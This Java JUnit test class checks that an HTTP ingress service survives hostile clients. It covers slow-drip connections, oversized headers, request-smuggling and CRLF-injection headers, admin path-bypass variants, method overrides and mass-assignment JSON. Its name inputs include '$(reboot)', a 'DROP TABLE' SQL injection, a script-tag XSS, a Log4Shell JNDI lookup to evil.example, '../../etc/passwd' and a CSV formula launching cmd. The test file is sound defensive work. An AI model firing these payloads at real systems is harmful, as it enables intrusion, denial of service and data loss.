package dev.naru.ingress.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.naru.ingress.Caller.Answer;
import dev.naru.ingress.key.ApiKey;
import dev.naru.ingress.key.Secret;
import dev.naru.model.RoomSettings;
import dev.naru.model.SessionState;
import dev.naru.model.command.RequestSession;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What no honest client sends, byte by byte, and what it gets for it. */
@TestInstance(Lifecycle.PER_CLASS)
@Timeout(120)
@SuppressWarnings("NullAway.Init")
class HostileDoorTest {
  private static final String JOIN_HEAD =
      "POST /v1/rooms/lobby/sessions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n";
  private static final String KEY = "sk-naru-0123456789012345678901234567890123456789012";
  private static final String DOOR_HEAD =
      "POST /openai/v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAuthorization: Bearer "
          + KEY
          + "\r\n";
  private HttpDoor door;

  @BeforeAll
  void open(@TempDir Path folder) {
    door =
        new HttpDoor(
            folder, "--server.tomcat.connection-timeout=2s", "--naru.ingress.limits.content=3s");
    door.keys.add(
        new ApiKey(UUID.randomUUID(), "team", "lobby", null, null, Instant.EPOCH, null),
        Secret.digest(KEY));
  }

  @AfterAll
  void close() {
    door.close();
  }

  @BeforeEach
  void calm() {
    door.log.commands.clear();
    door.view.room("lobby", RoomSettings.defaults());
  }

  private String send(String request) throws IOException {
    return BareSocket.exchange(door.port, request);
  }

  private void othersAreServed() {
    assertThat(door.caller.send("GET", "/v1/rooms/lobby", null).status()).isEqualTo(200);
    assertThat(door.caller.join("lobby", "honest").status()).isEqualTo(202);
  }

  @Test
  void whoSaysNothingIsHungUpOn() throws IOException {
    // then
    assertThat(send("")).isEmpty();
    othersAreServed();
  }

  @Test
  void whoStopsInTheMiddleOfAHeadIsHungUpOn() throws IOException {
    // then
    assertThat(send("GET /v1/rooms/lobby HTT")).isEmpty();
    assertThat(send("GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\nX-Slow: a")).isEmpty();
    othersAreServed();
  }

  @Test
  void aHeadThatComesByteByByteEndsThoughEachByteIsInTime() throws IOException {
    try (BareSocket slow = new BareSocket(door.port)) {
      // when
      slow.write("GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\nX-Slow: ");

      // then
      await()
          .atMost(Duration.ofSeconds(60))
          .pollInterval(Duration.ofMillis(200))
          .until(
              () -> {
                try {
                  slow.write("a");
                } catch (IOException e) {
                  return true;
                }
                return slow.isClosed();
              });
    }
    othersAreServed();
  }

  @Test
  void aConnectionThatIsIdleBetweenTwoRequestsIsNotASlowOne() throws Exception {
    try (BareSocket patient = new BareSocket(door.port)) {
      // given
      patient
          .write("GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\n\r\n")
          .readUntil("estimatedWaitSeconds");

      // when
      door.context.getBean(SlowHeads.class).end(Duration.ZERO);
      String second =
          patient
              .write("GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
              .readToEnd();

      // then
      assertThat(second).contains("HTTP/1.1 200");
    }
  }

  @Test
  void whoStopsInTheMiddleOfAContentIsHungUpOn() throws IOException {
    // when
    String announced = send(JOIN_HEAD + "Content-Length: 100\r\n\r\n{\"userKey\":");
    String chunked = send(JOIN_HEAD + "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"us");

    // then
    assertThat(List.of(announced, chunked)).containsOnly("");
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {JOIN_HEAD, DOOR_HEAD})
  void aContentThatComesByteByByteIsTooSlowThoughEachByteIsInTime(String head) throws IOException {
    try (BareSocket slow = new BareSocket(door.port)) {
      // when
      slow.write(head + "Content-Length: 10000\r\n\r\n");
      Thread dripping = Thread.startVirtualThread(() -> slow.drip(Duration.ofMillis(100)));
      String answer = slow.readToEnd();
      dripping.interrupt();

      // then
      assertThat(answer).matches("(?s)HTTP/1.1 408 .*(too-slow|request_timeout).*");
    }
    assertThat(door.log.commands).isEmpty();
  }

  @Test
  void manyWhoNeverSendAndManyWhoNeverReadLeaveTheOthersTheirAnswers() throws IOException {
    List<BareSocket> hostile = new ArrayList<>();
    try {
      // given
      for (int i = 0; i < 300; i++) {
        hostile.add(new BareSocket(door.port));
        hostile.add(new BareSocket(door.port).write("POST /v1/rooms"));
        hostile.add(
            new BareSocket(door.port).write(JOIN_HEAD + "Content-Length: 100\r\n\r\n{\"userK"));
        hostile.add(
            new BareSocket(door.port)
                .write("GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20)));
      }

      // then
      othersAreServed();
    } finally {
      for (BareSocket one : hostile) {
        one.close();
      }
    }
    othersAreServed();
  }

  @Test
  void aHeadThatIsTooLargeIsRefusedAndSaysNothing() throws IOException {
    // when
    String header =
        send(
            "GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\nX-Big: " + "a".repeat(60_000) + "\r\n\r\n");
    String line = send("GET /" + "a".repeat(60_000) + " HTTP/1.1\r\nHost: x\r\n\r\n");
    String many =
        send("GET /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\n" + "X: y\r\n".repeat(500) + "\r\n");

    // then
    assertThat(List.of(header, line, many))
        .allSatisfy(
            answer ->
                assertThat(answer)
                    .matches("(?s)(HTTP/1.1 4[0-9][0-9].*)?")
                    .doesNotContain("Exception", "Tomcat"));
    othersAreServed();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Idempotency-Key: a\rX-Injected: b",
        "Idempotency-Key: a\nX-Injected: b",
        "Idempotency-Key: a\u0000b",
        "Idempotency-Key : a",
        " Idempotency-Key: folded",
        "Idempotency-Key: a\r\n folded",
        "Content-Length: 13\r\nContent-Length: 14",
        "Content-Length: 13\r\nTransfer-Encoding: chunked",
        "Content-Length: +13",
        "Content-Length: 0x0d",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: xchunked"
      })
  void aHeaderThatTwoServersCouldReadDifferentlyIsNeverTwoRequests(String header)
      throws IOException {
    // when
    String answer = send(JOIN_HEAD + header + "\r\nConnection: close\r\n\r\n{\"userKey\":\"u\"}");

    // then
    assertThat(answer).doesNotContain("X-Injected").doesNotContain("\r\n\r\nHTTP/1.1");
    assertThat(
            answer.isEmpty() || answer.startsWith("HTTP/1.1 4") || answer.startsWith("HTTP/1.1 5"))
        .as(answer)
        .isTrue();
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/v1/sessions/x%0d%0aSet-Cookie:%20a=b",
        "/v1/rooms/lobby%0d%0aSet-Cookie:%20a=b/sessions",
        "/v1/rooms/lobby?x=%0d%0aSet-Cookie:%20a=b",
        "/v1/sessions/%0aLocation:x/events?ticket=%0d%0aX:%20y"
      })
  void aLineBreakInAPathOrParameterComesBackNowhere(String path) throws IOException {
    // when
    String answer = send("GET " + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

    // then
    assertThat(answer)
        .startsWith("HTTP/1.1 ")
        .doesNotContain("Set-Cookie: a", "\r\nLocation", "\r\nX: y");
  }

  static Stream<String> adminsOtherNames() {
    return Stream.of(
        "//admin/v1/audit",
        "/admin//v1/audit",
        "/./admin/v1/audit",
        "/v1/../admin/v1/audit",
        "/v1/..;/admin/v1/audit",
        "/v1/..;x=y/admin/v1/audit",
        "/admin;x=y/v1/audit",
        "/admin/v1;x/audit;y",
        "/%61dmin/v1/audit",
        "/admin%2fv1%2faudit",
        "/%2fadmin/v1/audit",
        "/v1/%2e%2e/admin/v1/audit",
        "/v1/%2e%2e%2fadmin/v1/audit",
        "/admin/v1/audit%00",
        "/admin/v1/audit%00.png",
        "/admin/v1/audit/",
        "/admin/v1/audit.json",
        "/ADMIN/v1/audit",
        "/admin/v1/%c0%ae%c0%ae/audit",
        "/v1\\..\\admin\\v1\\audit",
        "/openai/../admin/v1/audit",
        "http://x/admin/v1/audit",
        "/admin/v1/audit?x=/v1/rooms/lobby");
  }

  @ParameterizedTest
  @MethodSource("adminsOtherNames")
  void noNameOfAnOperatorsPathGoesPastTheQuestionForTheToken(String path) throws IOException {
    // when
    String answer = send("GET " + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

    // then
    assertThat(answer).matches("(?s)HTTP/1.1 (400|401|404) .*").doesNotContain("\"items\"");
  }

  @ParameterizedTest
  @MethodSource("adminsOtherNames")
  void noNameOfAChangeGoesPastAViewersLimits(String path) throws IOException {
    // when
    String pause = path.replace("audit", "rooms/lobby/pause");
    String answer =
        send(
            "POST "
                + pause
                + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\nAuthorization: Bearer "
                + HttpDoor.VIEWER_TOKEN
                + "\r\n\r\n");

    // then
    assertThat(answer).matches("(?s)HTTP/1.1 (400|403|404|405) .*");
    assertThat(door.log.commands).isEmpty();
    assertThat(door.audit.entries).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"TRACE", "TRACK", "CONNECT", "PROPFIND", "DEBUG", "get", "GeT", "FOO"})
  void aMethodThatNobodyNeedsIsRefusedAndEchoesNothing(String method) throws IOException {
    // when
    String answer =
        send(
            method
                + " /v1/rooms/lobby HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Secret: echo\r\n\r\n");

    // then
    assertThat(answer).matches("(?s)HTTP/1.1 (400|405|501) .*").doesNotContain("echo");
  }

  @Test
  void headIsGetWithoutTheContentAndOptionsTellsTheMethods() {
    // when
    Answer head = door.caller.send("HEAD", "/v1/rooms/lobby", null);
    Answer options = door.caller.send("OPTIONS", "/v1/rooms/lobby/sessions", null);

    // then
    assertThat(head.status()).isEqualTo(200);
    assertThat(head.body()).isEmpty();
    assertThat(options.header("Allow")).contains("POST");
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"})
  void aMethodIsNotAnotherBecauseAHeaderSaysSo(String header) {
    // given
    var session = door.session(SessionState.ACTIVE);
    String[] token = door.tokenOf(session.id(), 0);

    // when
    Answer read =
        door.caller.send(
            "GET",
            "/v1/sessions/" + session.id() + "?_method=DELETE",
            null,
            token[0],
            token[1],
            header,
            "DELETE");

    // then
    assertThat(read.status()).isEqualTo(200);
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"payload\":1,\"timeoutMillis\":1e999999999}",
        "{\"payload\":1,\"timeoutMillis\":1e-999999999}",
        "{\"payload\":1,\"timeoutMillis\":9223372036854775808}",
        "{\"payload\":1,\"timeoutMillis\":-1}",
        "{\"payload\":1,\"timeoutMillis\":\"1\"}",
        "{\"payload\":1,\"timeoutMillis\":[1]}",
        "{\"payload\":NaN}",
        "{\"payload\":1,\"state\":\"SUCCEEDED\"}",
        "{\"payload\":1,\"queryId\":\"0199aaaa-0000-7000-8000-000000000000\"}",
        "{\"payload\":1,\"sessionId\":\"0199aaaa-0000-7000-8000-000000000000\"}",
        "{\"payload\":1,\"__proto__\":{\"admin\":true}}",
        "{\"payload\":1,\"payload\":2}"
      })
  void numbersThatAreTooLargeAndFieldsThatAreNotTheCallersAreMalformed(String content) {
    // given
    var session = door.session(SessionState.ACTIVE);

    // when
    Answer refused =
        door.caller.send(
            "POST",
            "/v1/sessions/" + session.id() + "/queries",
            content,
            door.tokenOf(session.id(), 0));

    // then
    assertThat(refused.status()).isEqualTo(400);
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"capacity\":1e400}",
        "{\"capacity\":1e999999999}",
        "{\"capacity\":99999999999999999999}",
        "{\"capacity\":20.5}",
        "{\"capacity\":\"20\"}",
        "{\"capacity\":-1}",
        "{\"capacity\":30,\"capacity\":40}",
        "{\"capacity\":30,\"active\":0}",
        "{\"capacity\":30,\"lastTicket\":0}",
        "{\"operator\":\"mallory\",\"capacity\":30}"
      })
  void anOperatorToo(String content) {
    // when
    Answer refused = door.caller.send("PUT", "/admin/v1/rooms/lobby", content, HttpDoor.OPERATOR);

    // then
    assertThat(refused.status()).isEqualTo(400);
    assertThat(refused.text("detail")).startsWith("Expected").hasSizeLessThan(500);
    assertThat(door.log.commands).isEmpty();
    assertThat(door.audit.entries).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"userKey\":\"u\",\"state\":\"ACTIVE\"}",
        "{\"userKey\":\"u\",\"ticket\":1}",
        "{\"userKey\":\"u\",\"position\":0}",
        "{\"userKey\":\"u\",\"sessionId\":\"0199aaaa-0000-7000-8000-000000000000\"}",
        "{\"userKey\":\"u\",\"admin\":true}",
        "{\"UserKey\":\"u\"}",
        "{\"userKey\":{\"$ne\":null}}"
      })
  void aJoinCannotSayWhatIsTheRoomsToSay(String content) {
    // then
    assertThat(door.caller.send("POST", "/v1/rooms/lobby/sessions", content).status())
        .isEqualTo(400);
    assertThat(door.log.commands).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$(reboot)",
        "'; DROP TABLE session_history; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{0}:session:*",
        "../../etc/passwd",
        "naru:{0}:head",
        "=cmd|' /C calc'!A0",
        "\u202egnp.exe",
        "Ω≈ç√∫˜µ≤≥÷",
        "한국어 이름",
        "👩‍👩‍👧‍👦"
      })
  void aStrangeNameIsANameAndNothingElse(String name) {
    // given
    String json = tools.jackson.databind.json.JsonMapper.shared().writeValueAsString(name);

    // when
    Answer joined =
        door.caller.send("POST", "/v1/rooms/lobby/sessions", "{\"userKey\":" + json + "}");

    // then
    assertThat(joined.status()).isEqualTo(202);
    assertThat(((RequestSession) door.log.commands.getFirst()).userKey()).isEqualTo(name);
  }
}
